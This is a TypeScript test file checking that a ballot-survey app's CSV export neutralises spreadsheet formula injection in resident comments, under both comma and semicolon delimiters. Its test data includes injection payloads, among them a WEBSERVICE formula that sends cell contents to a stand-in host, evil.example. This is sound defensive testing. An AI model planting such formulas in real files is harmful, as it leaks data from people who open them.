import { parse } from 'csv-parse/sync'
import type { FastifyInstance } from 'fastify'
import { describe, expect, it } from 'vitest'
import { buildTestApp } from '../helpers/build-test-app.js'
import { allSatisfied, makeWorld, openRoundWithLinks, type World } from '../helpers/rounds.js'

/**
 * A resident writes formulas where a spreadsheet might find them: after a `;` (the list separator of
 * Vietnamese Excel, which then splits a comma file's quoted field), after a comma, after a quote, or on a
 * new line of a comment. Whatever program opens the export and however it splits it, no cell may start
 * with = + - @, a tab or a CR.
 */
const NASTY = [
  'ok;=1+2',
  'x;=WEBSERVICE("http://evil.example/?"&A1)',
  'Đường xấu\n=1+1',
  'dòng một\r\n@SUM(1,2)',
  'a,+1',
  'trích "=HYPERLINK(""http://evil.example"")"',
  'tab;\t=1',
  '=2+2',
]
const TRIGGER = /^[=+\-@\t\r]/

async function sealedRoundWithComments(app: FastifyInstance, w: World) {
  const { round, tokens } = await openRoundWithLinks(app, w)
  for (const [i, comment] of NASTY.entries()) {
    const res = await app.inject({ method: 'POST', url: `/api/ballots/${tokens[i]}`, payload: { answers: allSatisfied, comment } })
    expect(res.statusCode, res.body).toBe(201)
  }
  await app.inject({ method: 'POST', url: `/api/rounds/${round.id}/close`, headers: w.auth.xa, payload: {} })
  expect((await app.inject({ method: 'POST', url: `/api/rounds/${round.id}/seal`, headers: w.auth.xa })).statusCode).toBe(200)
  return round
}

/** Every fragment a naive reader could make a cell of: split on both separators and line breaks, opening quotes dropped. */
const fragments = (text: string) => text.split(/[,;\r\n]/).map((f) => f.replace(/^"+/, ''))

describe('CSV export: formula injection anywhere in a field', () => {
  it('neutralises triggers after ; , a quote or a line break, in the comma file and in the semicolon file', async () => {
    const { app, db } = await buildTestApp()
    const w = await makeWorld(app, db, { perVillage: 5 })
    const round = await sealedRoundWithComments(app, w)
    for (const [query, delimiter] of [
      ['', ','],
      ['?delimiter=semicolon', ';'],
    ] as const) {
      const res = await app.inject({
        method: 'GET',
        url: `/api/rounds/${round.id}/export.csv?headers=codes${query.replace('?', '&')}`,
        headers: w.auth.xa,
      })
      expect(res.statusCode, res.body.slice(0, 200)).toBe(200)
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
      expect([...res.rawPayload.subarray(0, 3)], 'UTF-8 BOM').toEqual([0xef, 0xbb, 0xbf])
      const text = res.rawPayload.toString('utf8').slice(1)

      // read back with its own delimiter: one record per ballot, the comment column intact but neutralised
      const rows = parse(text, { delimiter, bom: false }) as string[][]
      const header = rows[0] ?? []
      expect(header[0]).toBe('ballot_id')
      const col = header.indexOf('comment')
      expect(col).toBeGreaterThan(0)
      expect(rows).toHaveLength(1 + NASTY.length)
      const comments = rows.slice(1).map((r) => r[col] ?? '')
      for (const c of comments) expect(c, JSON.stringify(c)).not.toMatch(TRIGGER)
      // nothing lost: removing the apostrophes put in front of triggers gives the resident's text back
      expect(comments.map((c) => c.replace(/(^|[,;"\r\n])'(?=[=+\-@\t\r])/g, '$1')).sort()).toEqual([...NASTY].sort())

      // read with the OTHER delimiter, as Excel in another locale would, leniently: still no formula cell
      const other = parse(text, { delimiter: delimiter === ',' ? ';' : ',', relax_quotes: true, relax_column_count: true, bom: false })
      for (const cell of (other as string[][]).flat()) expect(cell, JSON.stringify(cell)).not.toMatch(TRIGGER)
      for (const f of fragments(text)) expect(f, JSON.stringify(f)).not.toMatch(TRIGGER)
    }
  })

  it('rejects an unknown delimiter with 400', async () => {
    const { app, db } = await buildTestApp()
    const w = await makeWorld(app, db, { perVillage: 5 })
    const round = await sealedRoundWithComments(app, w)
    const res = await app.inject({
      method: 'GET',
      url: `/api/rounds/${round.id}/export.csv?headers=codes&delimiter=tab`,
      headers: w.auth.xa,
    })
    expect(res.statusCode).toBe(400)
    expect(res.json().error.code).toBe('validation_failed')
  })
})
